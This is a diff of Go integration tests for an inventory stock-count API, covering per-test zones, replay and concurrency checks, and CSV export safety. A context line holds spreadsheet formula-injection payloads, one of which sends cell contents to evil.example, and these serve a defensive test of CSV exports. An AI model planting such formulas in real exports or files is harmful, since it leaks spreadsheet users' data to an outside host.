@@ -271,17 +271,17 @@ func scenarioSlowUploads(r *campaignRun, t *testing.T) {
 // approval the book equals the shelf.
 func scenario1970(r *campaignRun, t *testing.T) {
 	s, mgr := r.s, r.actors["manager"]
-	cat := uniq("camp1970")
-	item := s.newSKUs(cat, "HK-TST", 1, 9377)[0]
-	cnt := s.openCount(mgr, map[string]any{"location": "HK-TST", "scope": map[string]any{"categories": []string{cat}}, "movement_policy": "snapshot_delta"})
+	cat, zone := uniq("camp1970"), r.zone(t)
+	item := s.newSKUs(cat, zone, 1, 9377)[0]
+	cnt := s.openCount(mgr, map[string]any{"location": zone, "scope": map[string]any{"categories": []string{cat}}, "movement_policy": "snapshot_delta"})
 	time.Sleep(20 * time.Millisecond)
-	if st, b := s.move(mgr, sale(uniq("camp-sale"), item.SKU, "HK-TST", 10, time.Now())); st != 200 {
+	if st, b := s.move(mgr, sale(uniq("camp-sale"), item.SKU, zone, 10, time.Now())); st != 200 {
 		t.Fatalf("sale: %d %s", st, b)
 	}
 	s.scans(mgr, cnt.ID, scanIn{Code: item.EAN, Qty: 9367, ScannedAt: "1970-01-01T00:00:00Z", DeviceID: "flat-battery"})
 	s.mustJSON("POST", "/v1/counts/"+cnt.ID+"/close", mgr, nil, 200, nil)
 	s.mustJSON("POST", "/v1/counts/"+cnt.ID+"/approve", mgr, map[string]any{}, 200, nil)
-	if got := s.book("HK-TST", item.SKU); got != 9367 {
+	if got := s.book(zone, item.SKU); got != 9367 {
 		t.Errorf("book after approval %d, want the shelf's 9367", got)
 	}
 }
@@ -294,7 +294,7 @@ var formulas = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cm
 // every CSV export of the API.
 func scenarioCSVFormulas(r *campaignRun, t *testing.T) {
 	s, mgr := r.s, r.actors["manager"]
-	cat := formulas[1] + uniq("")
+	cat, zone := formulas[1]+uniq(""), r.zone(t)
 	var skus []string
 	csvStock := "sku,location,qty\n"
 	for i, name := range []string{formulas[0], formulas[2], formulas[3]} {
@@ -303,12 +303,12 @@ func scenarioCSVFormulas(r *campaignRun, t *testing.T) {
 		s.mustJSON("PUT", "/v1/skus/"+sku, "ADMIN", map[string]any{"name": name, "name_zh": formulas[(i+1)%len(formulas)], "category": cat, "unit_cost": "2.00",
 			"barcodes": []map[string]any{{"code": ean(body), "pack_qty": 1}}}, 201, nil)
 		skus = append(skus, ean(body))
-		csvStock += sku + ",HK-TST,5\n"
+		csvStock += sku + "," + zone + ",5\n"
 	}
 	if resp, b := s.raw("POST", "/v1/imports/stock", "ADMIN", "text/csv", []byte(csvStock)); resp.StatusCode != 200 {
 		t.Fatalf("stock: %d %s", resp.StatusCode, b)
 	}
-	cnt := s.openCount(mgr, map[string]any{"location": "HK-TST", "scope": map[string]any{"categories": []string{cat}}})
+	cnt := s.openCount(mgr, map[string]any{"location": zone, "scope": map[string]any{"categories": []string{cat}}})
 	for _, code := range skus {
 		s.scans(mgr, cnt.ID, scanIn{Code: code, Qty: 3})
 	}
@@ -616,9 +616,9 @@ func scenarioLockout(r *campaignRun, t *testing.T) {
 // once.
 func scenarioReplay(r *campaignRun, t *testing.T) {
 	s, mgr := r.s, r.actors["manager"]
-	cat := uniq("camp-replay")
-	items := s.newSKUs(cat, "HK-TST", 5, 50)
-	cnt := s.openCount(mgr, map[string]any{"location": "HK-TST", "scope": map[string]any{"categories": []string{cat}}})
+	cat, zone := uniq("camp-replay"), r.zone(t)
+	items := s.newSKUs(cat, zone, 5, 50)
+	cnt := s.openCount(mgr, map[string]any{"location": zone, "scope": map[string]any{"categories": []string{cat}}})
 	batch := make([]scanIn, 500)
 	for i := range batch {
 		batch[i] = scanIn{EventID: fmt.Sprintf("%s-%d", cat, i), Code: items[i%5].EAN, Qty: 1, DeviceID: "queue"}
@@ -670,9 +670,9 @@ func scenarioReplay(r *campaignRun, t *testing.T) {
 // first one stands.
 func scenarioEventConflict(r *campaignRun, t *testing.T) {
 	s, mgr := r.s, r.actors["manager"]
-	cat := uniq("camp-conflict")
-	item := s.newSKUs(cat, "HK-TST", 1, 5)[0]
-	cnt := s.openCount(mgr, map[string]any{"location": "HK-TST", "scope": map[string]any{"categories": []string{cat}}})
+	cat, zone := uniq("camp-conflict"), r.zone(t)
+	item := s.newSKUs(cat, zone, 1, 5)[0]
+	cnt := s.openCount(mgr, map[string]any{"location": zone, "scope": map[string]any{"categories": []string{cat}}})
 	id := uniq("camp-ev")
 	if res := s.scans(mgr, cnt.ID, scanIn{EventID: id, Code: item.EAN, Qty: 1}); res.Accepted != 1 {
 		t.Fatalf("first: %+v", res)
@@ -697,8 +697,9 @@ func scenarioMovementConflict(r *campaignRun, t *testing.T) {
 	s, mgr := r.s, r.actors["manager"]
 	item := s.newSKUs(uniq("camp-mv"), "HK-TST", 1, 5)[0]
 	id := uniq("camp-move")
+	at := time.Now().UTC().Format(time.RFC3339)
 	mv := func(q int) map[string]any {
-		return map[string]any{"movement_id": id, "sku": item.SKU, "location": "HK-TST", "qty_delta": q, "kind": "receipt"}
+		return map[string]any{"movement_id": id, "sku": item.SKU, "location": "HK-TST", "qty_delta": q, "kind": "receipt", "at": at}
 	}
 	if st, b := s.move(mgr, mv(1)); st != 200 {
 		t.Fatalf("receipt: %d %s", st, b)
@@ -742,36 +743,53 @@ func (r *campaignRun) concurrently(n int, method, path, as string, body []byte) 
 }
 
 // reviewCount opens a count of a new SKU, scans it and closes it.
-func (r *campaignRun) reviewCount(t *testing.T, closeIt bool) (string, testSKU) {
+func (r *campaignRun) reviewCount(t *testing.T, closeIt bool) (string, string, testSKU) {
 	s, mgr := r.s, r.actors["manager"]
-	cat := uniq("camp-race")
-	item := s.newSKUs(cat, "HK-TST", 1, 20)[0]
-	cnt := s.openCount(mgr, map[string]any{"location": "HK-TST", "scope": map[string]any{"categories": []string{cat}}})
+	cat, zone := uniq("camp-race"), r.zone(t)
+	item := s.newSKUs(cat, zone, 1, 20)[0]
+	cnt := s.openCount(mgr, map[string]any{"location": zone, "scope": map[string]any{"categories": []string{cat}}})
 	s.scans(mgr, cnt.ID, scanIn{Code: item.EAN, Qty: 18})
 	if closeIt {
 		s.mustJSON("POST", "/v1/counts/"+cnt.ID+"/close", mgr, nil, 200, nil)
 	}
-	return cnt.ID, item
+	return cnt.ID, zone, item
 }
 
-// Four approvals of one count at once: one posts, the others get 409,
-// and the book moves once.
+// Four approvals of one count at once: approval is idempotent, so all
+// answer 200, and the count is posted once.
 func scenarioConcurrentApprovals(r *campaignRun, t *testing.T) {
-	id, item := r.reviewCount(t, true)
+	id, zone, item := r.reviewCount(t, true)
 	got := r.concurrently(4, "POST", "/v1/counts/"+id+"/approve", r.actors["manager"], []byte(`{}`))
-	if !slices.Equal(got, []int{200, 409, 409, 409}) {
+	if !slices.Equal(got, []int{200, 200, 200, 200}) {
 		t.Errorf("concurrent approvals: %v", got)
 	}
-	if b := r.s.book("HK-TST", item.SKU); b != 18 {
+	if b := r.s.book(zone, item.SKU); b != 18 {
 		t.Errorf("book %d after approval, want 18", b)
+	}
+	var n int
+	if err := r.store.QueryRow(r.rebind(`SELECT COUNT(*) FROM count_postings WHERE count_id = ? AND sku = ?`), id, item.SKU).Scan(&n); err != nil || n != 1 {
+		t.Errorf("%d postings after concurrent approvals, want 1 (%v)", n, err)
+	}
+	if b := r.s.book(zone, item.SKU); b != 18 {
+		t.Errorf("book %d after approving again, want 18", b)
 	}
 }
 
-// Four closes of one count at once: one closes, the others get 409.
+// Four closes of one count at once: at least one closes, none fails;
+// scans after are refused as late.
 func scenarioConcurrentCloses(r *campaignRun, t *testing.T) {
-	id, _ := r.reviewCount(t, false)
-	if got := r.concurrently(4, "POST", "/v1/counts/"+id+"/close", r.actors["manager"], nil); !slices.Equal(got, []int{200, 409, 409, 409}) {
+	id, _, item := r.reviewCount(t, false)
+	got := r.concurrently(4, "POST", "/v1/counts/"+id+"/close", r.actors["manager"], nil)
+	if got[0] != 200 || slices.ContainsFunc(got, func(st int) bool { return st != 200 && st != 409 }) {
 		t.Errorf("concurrent closes: %v", got)
+	}
+	var view stock.CountView
+	r.s.mustJSON("GET", "/v1/counts/"+id, r.actors["manager"], nil, 200, &view)
+	if view.Status != "review" {
+		t.Errorf("status %s after concurrent closes", view.Status)
+	}
+	if res := r.s.scans(r.actors["manager"], id, scanIn{Code: item.EAN, Qty: 1}); res.Accepted != 0 {
+		t.Errorf("a scan after close was counted: %+v", res)
 	}
 }
 
@@ -828,4 +846,15 @@ func scenarioLogout(r *campaignRun, t *testing.T) {
 			t.Errorf("%s %s after logout: %d %s", method, p, resp.StatusCode, b)
 		}
 	}
+}
+
+// rebind turns ? placeholders into $n on PostgreSQL.
+func (r *campaignRun) rebind(q string) string {
+	if r.db != "postgres" {
+		return q
+	}
+	for i := 1; strings.Contains(q, "?"); i++ {
+		q = strings.Replace(q, "?", fmt.Sprintf("$%d", i), 1)
+	}
+	return q
 }
